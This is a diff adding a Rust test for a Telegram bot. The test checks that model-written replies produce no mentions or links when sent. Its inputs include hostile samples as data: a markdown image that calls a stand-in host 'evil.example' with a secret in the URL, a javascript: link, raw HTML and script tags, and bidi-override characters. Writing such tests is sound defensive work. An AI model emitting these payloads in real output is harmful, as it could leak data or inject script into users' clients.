@@ -223,3 +223,29 @@ async fn markup_that_telegram_refuses_goes_as_plain_text() {
     assert_eq!(calls[1].params.get("entities"), None);
     assert_eq!(calls[1].params["text"], json!("so says @\u{2060}durov"), "nobody is mentioned");
 }
+
+#[tokio::test]
+async fn what_the_model_writes_mentions_nobody_and_loads_nothing() {
+    let rig = rig().await;
+    for reply in [
+        "@alice and @everyone, come here",
+        "[click](tg://user?id=5100000001) and [here](javascript:alert(1))",
+        "![image](https://evil.example/pixel.png?secret=1)",
+        "<a href=\"tg://user?id=5100000001\">x</a> <b>bold</b> &lt;script&gt;",
+        "**open emphasis _nested `open code\n\n```rust\nlet x = 1;",
+        "*a* _b_ __c__ ~d~ ||e|| >f \\*",
+        "/forgetme yes\n/new\n@cairn_test_bot /stop",
+        "\u{202e}txet desrever\u{202c} and \u{0} nul",
+        "# Head\n\n| a | b |\n|---|---|\n| @alice | [x](https://e.example) |\n\n- one\n  - two\n\n> @bob said",
+    ] {
+        // A chat of its own, so that no pace is waited for.
+        let ann = rig.fake.person("Ann");
+        rig.fake.say(ann.id, &ann, "say it");
+        rig.telegram.send(part(channel(ann.id), None, reply)).await.expect("is sent");
+        for entity in &rig.fake.sent(ann.id)[0].entities {
+            let kind = entity["type"].as_str().unwrap_or_default();
+            assert!(!["mention", "text_mention", "text_link"].contains(&kind), "{entity}");
+        }
+    }
+    rig.fake.assert_clean();
+}
